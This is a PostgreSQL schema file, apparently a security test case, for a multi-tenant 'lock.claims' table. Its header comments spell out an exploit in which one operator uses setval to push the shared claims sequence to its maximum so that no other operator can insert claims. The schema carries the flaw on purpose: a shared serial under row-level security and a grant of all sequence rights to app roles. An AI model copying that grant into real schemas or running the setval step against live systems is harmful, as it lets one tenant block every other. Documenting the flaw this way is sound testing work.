-- UPDATE on the sequence lets one operator set the counter to its end, and then nobody can write a claim.
-- about: claims, claims_nr_seq
-- as: hf_lockers_courier
-- exploit: SET app.operator_id = '1';
-- exploit: SELECT setval('lock.claims_nr_seq', 2147483647, true);
-- exploit: SET app.operator_id = '2';
-- exploit: INSERT INTO lock.claims (operator_id, body) VALUES (2, 'box is broken');
-- shows: reached maximum value of sequence
SET ROLE hf_lockers_owner;
CREATE TABLE lock.claims (
  operator_id bigint NOT NULL REFERENCES lock.operators (id),
  nr serial NOT NULL,
  body text NOT NULL,
  PRIMARY KEY (operator_id, nr)
);
ALTER TABLE lock.claims ENABLE ROW LEVEL SECURITY;
ALTER TABLE lock.claims FORCE ROW LEVEL SECURITY;
CREATE POLICY operator_rows ON lock.claims
  USING (operator_id = nullif(current_setting('app.operator_id', true), '')::bigint);
GRANT SELECT, INSERT ON lock.claims TO hf_lockers_app, hf_lockers_courier;
GRANT ALL ON ALL SEQUENCES IN SCHEMA lock TO hf_lockers_app, hf_lockers_courier;
RESET ROLE;
